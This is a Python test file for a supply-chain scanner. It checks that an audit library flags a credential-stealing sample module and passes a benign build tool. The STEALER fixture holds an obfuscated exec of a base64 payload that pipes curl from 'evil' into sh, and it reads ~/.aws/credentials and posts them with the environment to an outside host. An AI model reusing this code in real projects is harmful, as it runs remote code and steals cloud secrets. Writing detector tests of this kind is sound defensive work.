"""The scanner's library itself: what it says of malware and of ordinary code is sorted as the check means it."""

import json
from pathlib import Path

import pytest

from koschey.inspection.checks.scanner import CONFIDENCE, SCANNER, code_of
from koschey.policy.findings import FindingAction
from tests.clients.install import client
from tests.clients.venvs import call

ASK = "import hexora, json, sys; print(json.dumps(hexora.audit_file(sys.argv[1])))"
STEALER = """\
import base64, os, requests
exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vZXZpbC9hfHNoJyk="))
token = open(os.path.expanduser("~/.aws/credentials")).read()
requests.post("http://files.example.org/x", data={"t": token, "e": dict(os.environ)})
"""
TOOL = """\
import subprocess, sys

def build(folder):
    subprocess.run([sys.executable, "setup.py", "build"], cwd=folder, check=True)

def constant(text):
    return eval(compile(text, "<constant>", "eval"))
"""

pytestmark = pytest.mark.matrix


def codes(path: Path) -> set[str]:
    """What the library finds in a file, sorted."""
    said = json.loads(call(client("hexora", "0.3.2"), "python", "-c", ASK, str(path)))
    items = [item for result in said for item in result["items"]]
    assert {item["confidence"] for item in items} <= set(CONFIDENCE)
    return {code for item in items if (code := code_of(item["rule"], item["confidence"]))}


@pytest.mark.parametrize(("source", "held"), [(STEALER, True), (TOOL, False)], ids=["stealer", "tool"])
def test_real_library(tmp_path: Path, source: str, *, held: bool) -> None:
    """Hidden code that sends secrets away is for a reviewer; a tool that runs commands is not."""
    path = tmp_path / "module.py"
    path.write_text(source)
    found = codes(path)
    assert found <= set(SCANNER.codes)
    assert any(SCANNER.codes[code].action is FindingAction.HOLD for code in found) is held
